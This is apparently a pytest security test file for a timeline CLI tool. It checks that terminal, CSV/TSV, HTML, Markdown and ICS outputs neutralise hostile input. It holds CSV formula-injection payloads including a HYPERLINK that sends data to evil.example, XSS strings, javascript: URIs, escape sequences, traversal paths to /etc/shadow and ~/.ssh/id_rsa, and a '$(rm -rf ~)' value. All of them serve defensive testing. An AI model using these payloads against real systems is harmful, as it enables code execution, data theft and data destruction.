"""Injection: hostile event text is shown literally and harmlessly in every output mode.

Payloads: Rich markup, ANSI/OSC escapes (clear screen, OSC 8 hyperlinks, BEL, 8-bit CSI),
bidi overrides, CSV/TSV formula triggers (the OWASP list), HTML/JS, path traversal in `source`.

- Terminal output (rich, plain, extract table, diff, conflicts, merge messages, errors) never
  carries a control or bidi character from the data; markup prints as written. This is
  checked through CliRunner and, for real, in a pseudo-terminal (data formats such as CSV or
  JSON are escaped only when stdout is a terminal; piped or saved they stay byte-exact).
  tests/test_pty.py walks every subcommand that way with hostile file, store and key names too.
- CSV/TSV: no cell starts with a trigger character, and safe export -> import is lossless.
- HTML: nothing from the data becomes markup, a script, an event handler or a non-http link.
- Imported files name paths only as text: the tool opens and writes nothing else (audit hook).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest

from _figures import record
from timeline_cli import store
from timeline_cli.model import Event

MARKUP = "[bold red]BOLD[/bold red] [link=https://evil.example]click[/link] [/]"
ESCAPES = ("\x1b]8;;https://evil.example\x07linked\x1b]8;;\x07 \x1b[2J\x1b[H \x07 \x9b31m \x1bP+q\x1b\\ "
           "\x1b[31mred\x1b[0m \rOVERWRITE")
BIDI = "\u202egnp.exe \u2066isolate\u2069 \u200fmark"
HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>\"' onmouseover=alert(3) x=\"&amp;"
PAYLOAD = f"{MARKUP} {ESCAPES} {BIDI} {HTML}"
# Characters that must never reach a terminal from the data (SGR from our own styling aside).
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\u2028\u2029]")
OWASP = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
            "'=already quoted", "''=twice", "＝1+1", "＋1", "－1", "＠SUM(1)"]


def hostile_events() -> list[Event]:
    events = [Event(id="inj1", when="2024-11-04", text=PAYLOAD, by=f"{MARKUP}{ESCAPES}", source=f"../../etc/passwd{ESCAPES}",
                    tags=("[red]tag[/red]", "\x1b[2Jtag", "\u202etag"), note=PAYLOAD, status="disputed"),
              Event(id="inj2", when="2024-11-04", text="javascript:alert(document.domain)",
                    source="javascript:alert(1)", by="Data URI"),
              Event(id="inj3", when="2024-11-05", text="A source with an evil link", source="data:text/html,<script>x</script>"),
              Event(id="inj4", when="2024-11-06", text="A good link", source="https://example.org/a?x=1&y=<2>")]
    for i, formula in enumerate(FORMULAS):
        events.append(Event(id=f"f{i}", when=f"2024-10-{1 + i:02d}", text=formula + " in text", by=formula,
                            source=formula, tags=(formula,), note=formula))
    return events


# One-line fields (by, source, tags, ...) refuse control characters (timeline_cli.fields), so a
# store holds a payload there only as text: its controls written as visible escapes (\x1b), as
# ingest does with what it takes from a document, and as prose always holds them.
_ONE_LINE_CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")


def _visible(value: str) -> str:
    from timeline_cli.fields import WHITE_SPACE

    return _ONE_LINE_CONTROLS.sub(lambda m: f"\\x{ord(m.group()):02x}", value.strip(WHITE_SPACE))


def kept(events: list[Event]) -> list[Event]:
    """The events as a store can hold them: controls in one-line fields as visible escapes,
    every field then normalised by the store's own rules."""
    from timeline_cli.fields import LISTS, SINGLE_LINE, normalise_event

    out = []
    for e in events:
        changes: dict = {n: _visible(getattr(e, n)) for n in SINGLE_LINE}
        changes.update({n: tuple(_visible(i) for i in getattr(e, n)) for n in LISTS})
        out.append(normalise_event(e.with_(**changes)))
    return out


def save_kept(path, events: list[Event]) -> None:
    store.save(path, kept(events))


@pytest.fixture
def hostile(tl):
    save_kept(tl.store, hostile_events())
    return tl


def assert_harmless(out: str, *, color: bool = False) -> None:
    if color:
        out = re.sub(r"\x1b\[[0-9;]*m", "", out)  # our own styling (SGR) only
    bad = sorted({f"U+{ord(c):04X}" for c in FORBIDDEN.findall(out)})
    assert not bad, f"control/bidi characters reached the output: {bad}"
    record("injection outputs checked", 1)


# ---------------------------------------------------------------- terminal output

@pytest.mark.parametrize("color", ["never", "always"])
def test_show_rich_prints_markup_literally_and_no_control_codes(hostile, color):
    out = hostile("--color", color, "show", "--format", "rich").output
    assert_harmless(out, color=color == "always")
    plain = re.sub(r"\x1b\[[0-9;]*m", "", out)
    assert "[bold red]BOLD[/bold red]" in plain
    assert "[link=https://evil.example]click[/link]" in plain
    assert "\\x1b]8;;https://evil.example" in plain and "\\u202e" in plain
    assert "]8;;" not in out.replace("\\x1b]8;;", "")  # no real OSC 8 hyperlink


def test_show_plain_keeps_one_event_a_line(hostile):
    out = hostile("show", "--format", "plain").output
    assert_harmless(out)
    assert len(out.splitlines()) == len(hostile_events())
    assert all(line.count("\t") == 6 for line in out.splitlines())  # ...TAGS, ID, STATUS


@pytest.mark.parametrize("args", [["show", "--format", "rich"], ["show", "--format", "plain"],
                                  ["conflicts"], ["conflicts", "--format", "plain"]])
def test_more_terminal_views(hostile, args):
    result = hostile(*args)
    assert "Traceback" not in result.output
    assert_harmless(result.output)


def test_diff_views(hostile, tmp_path):
    other = tmp_path / "other.toml"
    changed = [Event(id=e.id, when=e.when, text=e.text + " \x1b[2J changed \u202e", by=e.by, source=e.source)
               for e in hostile_events()[:3]]
    save_kept(other, changed)
    for fmt in ("rich", "plain"):
        result = hostile("diff", str(hostile.store), str(other), "--format", fmt)
        assert result.exit_code == 1, result.output
        assert_harmless(result.output)


def test_merge_conflict_messages(hostile, tmp_path):
    base = tmp_path / "base.toml"
    ours = tmp_path / "ours.toml"
    theirs = tmp_path / "theirs.toml"
    event = hostile_events()[0]
    save_kept(base, [event])
    save_kept(ours, [Event(**{**event.to_dict(), "text": event.text + " \x1b[2J ours", "span": None, "tags": event.tags})])
    save_kept(theirs, [Event(**{**event.to_dict(), "text": event.text + " \u202e theirs", "span": None, "tags": event.tags})])
    result = hostile("merge", str(base), str(ours), str(theirs), "-o", str(tmp_path / "merged.toml"))
    assert result.exit_code == 1, result.output
    assert_harmless(result.output)


def test_extract_table_and_jsonl(hostile, tmp_path):
    doc = tmp_path / "evil.txt"
    doc.write_text(f"On 24 October 2024 {PAYLOAD}\nOn 4 November 2024 \x1b[2J\u202e clash.\n", encoding="utf-8")
    table = hostile("extract", str(doc), "--reported", "2024-11-06", "--format", "table").output
    assert_harmless(table)
    jsonl = hostile("extract", str(doc), "--reported", "2024-11-06", "--format", "jsonl").output
    assert_harmless(jsonl.replace("\u202e", ""))  # piped: JSON carries U+202E itself, exact
    dry = hostile("ingest", str(doc), "--reported", "2024-11-06", "--dry-run").output
    assert_harmless(dry)


@pytest.mark.parametrize("args", [
    ["show", "--grep", "(\x1b[2J\u202e"], ["show", "--since", "\x1b[2J"], ["show", "--format", "\x1b]8;;x\x07"],
    ["show", "--\x1b[2J"], ["\x1b[2Jnope"], ["import", "/nope/\x1b[2J\u202e.csv"], ["add", "\x1b[2J no date"],
    ["add", "x", "--when", "\u202e2024"], ["ingest", "/nope/\x07.txt"], ["diff", "/nope/\x1b[2J", "/nope/b"],
    ["merge", "--union", "/nope/\u202e.toml"], ["--store", "/nope/\x1b[2J.toml", "show"],
])
def test_error_messages_that_echo_input(hostile, args):
    result = hostile(*args, store=args[0] != "--store")
    assert result.exit_code in (1, 2), result.output
    assert "Traceback" not in result.output
    assert_harmless(result.output)


# ---------------------------------------------------------------- a real terminal

def _in_pty(argv: list[str], env: dict) -> str:
    import pty
    import select

    master, slave = pty.openpty()
    proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, env=env, close_fds=True)
    os.close(slave)
    chunks = []
    while True:
        ready, _, _ = select.select([master], [], [], 30)
        if not ready:
            break
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    proc.wait(timeout=30)
    return b"".join(chunks).decode("utf-8", "replace")


@pytest.mark.skipif(sys.platform == "win32", reason="needs a pseudo-terminal")
@pytest.mark.parametrize("args", [
    ["show"], ["show", "--format", "plain"], ["show", "--format", "json"], ["show", "--format", "jsonl"],
    ["show", "--format", "csv"], ["filter"], ["filter", "--format", "jsonl"],
    *[["export", "--format", fmt] for fmt in ("csv", "tsv", "json", "jsonl", "md", "ics", "timelinejs", "html", "toml")],
    ["export", "--format", "csv", "--raw"], ["conflicts"], ["conflicts", "--format", "json"],
    ["diff", "STORE", "OTHER", "--format", "json"], ["diff", "STORE", "OTHER"],
])
def test_nothing_reaches_a_real_terminal(hostile, tmp_path, args):
    other = tmp_path / "other.toml"
    save_kept(other, hostile_events()[:2])
    argv = [str(hostile.store) if a == "STORE" else str(other) if a == "OTHER" else a for a in args]
    env = dict(os.environ, TERM="xterm-256color", COLUMNS="120")
    env.pop("NO_COLOR", None)
    out = _in_pty([sys.executable, "-m", "timeline_cli", "--store", str(hostile.store), *argv], env)
    assert "Traceback" not in out, out[-2000:]
    assert out.strip(), "no output"
    assert_harmless(out.replace("\r\n", "\n"), color=True)
    record("injection outputs checked (real terminal)", 1)


def test_piped_data_formats_stay_exact(hostile, tmp_path):
    # The escaping above is for terminals only: piped or saved, every byte of the data survives.
    for fmt in ("json", "jsonl", "csv", "tsv", "toml"):
        out = tmp_path / f"out.{fmt}"
        assert hostile("export", "--format", fmt, "-o", str(out)).exit_code == 0
        copy = hostile.__class__(tmp_path / f"copy-{fmt}.toml")
        result = copy("import", str(out))
        assert result.exit_code == 0, result.output
        assert store.load(copy.store) == store.load(hostile.store), fmt


# ---------------------------------------------------------------- spreadsheets

@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_no_cell_starts_with_a_formula_trigger(hostile, fmt):
    out = hostile("export", "--format", fmt).output
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(out, newline="")))
    else:
        rows = [line.split("\t") for line in out.rstrip("\n").split("\n")]
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    for cell in cells:
        assert not cell[:1] in OWASP, repr(cell)
    if fmt == "csv":  # (TSV writes a tab or CR inside a cell as \t / \r first)
        for formula in FORMULAS:  # the store keeps a CR in prose as \n, which needs no quote
            text = (formula + " in text").replace("\r", "\n")
            assert (text if text[0] == "\n" else "'" + text) in cells, formula
    record("formula cells checked", len(cells))


@pytest.mark.parametrize("trigger", OWASP)
@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_every_owasp_trigger_in_every_column(tl, tmp_path, fmt, trigger):
    value = trigger + "cmd|' /C calc'!A0"
    event = Event(id="x1", when="2024-11-04", text=value, by=value, source=value, note=value,
                  tags=(value,), actors=(value,), places=(value,))
    save_kept(tl.store, [event])
    out = tmp_path / f"out.{fmt}"
    assert tl("export", "--format", fmt, "-o", str(out)).exit_code == 0
    data = out.read_text(encoding="utf-8")
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data, newline="")))
    else:
        rows = [line.split("\t") for line in data.rstrip("\n").split("\n")]
    for cell in rows[1]:
        assert cell[:1] not in OWASP, repr(cell)
    copy = tl.__class__(tmp_path / "copy.toml")
    assert copy("import", str(out)).exit_code == 0
    assert store.load(copy.store) == kept([event])


# ---------------------------------------------------------------- HTML and friends

class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def test_html_export_escapes_everything(hostile):
    out = hostile("export", "--format", "html").output
    # the page's only scripts are its own data block and timeline.js (pinned by the CSP, see
    # test_formats._our_scripts); event text is never among them
    scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", out, flags=re.S)
    assert [a.strip() for a, _ in scripts] == ['type="application/json" id="timeline-data"', ""]
    assert "<" not in scripts[0][1] and "alert" not in scripts[1][1]
    out = re.sub(r"<script\b[^>]*>.*?</script>", "", out, flags=re.S)
    page = _Collect()
    page.feed(out)
    tags = {tag for tag, _ in page.tags}
    assert "script" not in tags and "img" not in tags and "iframe" not in tags
    for tag, attrs in page.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                assert value.startswith(("https://", "http://", "#")), (tag, name, value)
    assert "javascript:" not in " ".join(str(a) for _, attrs in page.tags for a in attrs.values())
    # the texts travel as data, byte for byte, and the script puts them on the page as text
    # only (tests/test_html_browser.py checks that in Chromium)
    data = json.loads(scripts[0][1])
    texts = json.dumps(data, ensure_ascii=False)
    assert "<script>alert(1)</script>" in texts and "onerror=alert(2)" in texts
    assert "javascript:alert(1)" in data["source"] and "javascript:alert(1)" not in data["urls"]


def test_markdown_export_makes_no_links_or_html(hostile):
    out = hostile("export", "--format", "md").output
    assert "<script>" not in out and "<img" not in out
    assert "](javascript:" not in out and "](data:" not in out
    assert "[bold red]" not in out  # brackets are escaped: \[bold red\]
    lines = [line for line in out.splitlines() if line.startswith("|")]
    columns = lines[0].count("|")  # the header: Date..Source, and Status/Tags/Note when present
    for line in lines:
        if "inj1" not in line:
            assert line.count("|") - line.count("\\|") == columns, line  # no column injection


def test_ics_export_cannot_inject_properties(tl, tmp_path):
    event = Event(id="ics1", when="2024-11-04", text="Meeting\r\nATTACH:http://evil.example/x\r\nEND:VEVENT",
                  source="x\nRRULE:FREQ=SECONDLY", by="a;b,c\\d")
    save_kept(tl.store, [event])
    out = tl("export", "--format", "ics").output
    icalendar = pytest.importorskip("icalendar")
    cal = icalendar.Calendar.from_ical(out)
    vevents = [c for c in cal.walk("VEVENT")]
    assert len(vevents) == 1
    assert "ATTACH" not in vevents[0] and "RRULE" not in vevents[0]
    assert "ATTACH:http://evil.example/x" in str(vevents[0]["SUMMARY"]).replace("\r", "").replace("\n", "")


def test_timelinejs_export_escapes_html_and_links(hostile):
    data = json.loads(hostile("export", "--format", "timelinejs").output)
    blob = json.dumps(data)
    assert "<script>" not in blob and "<img" not in blob
    for ev in data["events"]:
        media = ev.get("media") or {}
        url = media.get("url", "")
        assert not url or url.startswith(("http://", "https://")), url
        assert not re.search(r"(?i)(href|src)\s*=\s*[\"']?\s*(javascript|data):", ev.get("text", {}).get("text", ""))


# ---------------------------------------------------------------- paths named in the data are only text

AUDIT = r"""
import json, os, sys
log = []
def hook(event, args):
    if event == "open" and isinstance(args[0], (str, bytes)):
        log.append(("open", os.fsdecode(args[0]), str(args[1])))
    elif event in ("os.rename", "os.replace", "os.remove", "os.unlink", "os.mkdir", "os.symlink", "os.chmod"):
        log.append((event, os.fsdecode(args[0]) if isinstance(args[0], (str, bytes)) else "", ""))
sys.addaudithook(hook)
from timeline_cli.cli import cli
for argv in json.loads(sys.argv[1]):
    try:
        cli.main(args=argv, prog_name="timeline", standalone_mode=False)
    except BaseException as exc:
        print("command failed:", argv, repr(exc), file=sys.stderr)
        sys.exit(3)
print(json.dumps(log))
"""


def test_imported_files_never_make_the_tool_touch_other_paths(tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    bait = tmp_path / "bait"
    bait.mkdir()
    (bait / "secret.txt").write_text("secret")
    traversal = ["../bait/secret.txt", str(bait / "secret.txt"), "file://" + str(bait / "secret.txt"),
                 "~/.ssh/id_rsa", "/etc/passwd", "../../../../etc/shadow", "\\\\server\\share\\x", "-", "$(rm -rf ~)"]
    rows = [{"when": "2024-11-04", "text": f"statement {i}", "source": path, "note": path, "tags": [path]}
            for i, path in enumerate(traversal)]
    (work / "rows.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    doc = work / "article.txt"
    doc.write_text("On 24 October 2024 the file ../bait/secret.txt was opened, according to /etc/passwd.\n")
    st = str(work / "t.toml")
    out = str(work / "out")
    commands = [["--store", st, "import", str(work / "rows.jsonl")],
                ["--store", st, "ingest", str(doc), "--reported", "2024-11-06"],
                ["--store", st, "show", "--format", "plain"],
                *[["--store", st, "export", "--format", fmt, "-o", f"{out}.{fmt}"]
                  for fmt in ("csv", "tsv", "json", "jsonl", "md", "ics", "timelinejs", "html", "toml")],
                ["--store", st, "filter", "--source", "..", "-o", f"{out}.filtered.toml"],
                ["--store", st, "conflicts", "--format", "plain"],
                ["--store", st, "diff", st, f"{out}.toml", "--format", "plain"]]
    env = dict(os.environ, TIMELINE_CACHE_DIR=str(tmp_path / "cache"), HOME=str(tmp_path / "home"))
    done = subprocess.run([sys.executable, "-c", AUDIT, json.dumps(commands)], cwd=work, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    log = json.loads(done.stdout.strip().splitlines()[-1])
    touched = {path for _, path, _ in log}
    assert not [p for p in touched if "bait" in p or "passwd" in p or "shadow" in p or "id_rsa" in p
                or "server" in p or p.startswith(str(tmp_path / "home"))]
    written = {path for event, path, mode in log
               if event != "open" or any(flag in mode for flag in ("w", "a", "x", "+"))
               or (mode.isdigit() and int(mode) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))}
    allowed = (str(work), str(tmp_path / "cache"))
    stray = sorted(p for p in written if p and not os.path.realpath(p).startswith(allowed) and p != os.devnull)
    assert not stray, stray
    record("paths audited (opened by the tool)", len(touched))


def test_a_hostile_file_name_gives_a_store_that_reads_back_without_the_cache(tl, tmp_path):
    # The `[[source]]` table of a document (here an e-mail's subject, sender and date) is keyed
    # by the document's name as its events' `source` is: a name holding ESC and a tab once went
    # into that table raw, so the store timeline wrote was refused by its own loader at the
    # first read without the snapshot (a `git pull`, TIMELINE_CACHE_DIR=off), and its key
    # named no event.
    import tomllib
    from email.message import EmailMessage

    message = EmailMessage()
    message["From"] = "Wire Desk <desk@example.org>"
    message["Date"] = "Mon, 04 Nov 2024 09:00:00 +0000"
    message["Subject"] = "clash"
    message.set_content("Ukrainian soldiers clashed with DPRK troops on November 4, officials said.\n")
    doc = tmp_path / "wire\x1b[31m\tname.eml"
    doc.write_bytes(bytes(message))
    assert tl("ingest", str(doc)).exit_code == 0
    data = tomllib.loads(tl.store.read_text(encoding="utf-8"))
    assert {s["source"] for s in data["source"]} == {e["source"] for e in data["event"]}
    assert "\x1b" not in tl.store.read_text(encoding="utf-8").replace("\\u001b", "\x1b")
    out = tl("show", "--format", "jsonl", env={"TIMELINE_CACHE_DIR": "off"})
    assert out.exit_code == 0, out.output
    assert "\\\\x1b[31m name.eml" in out.output
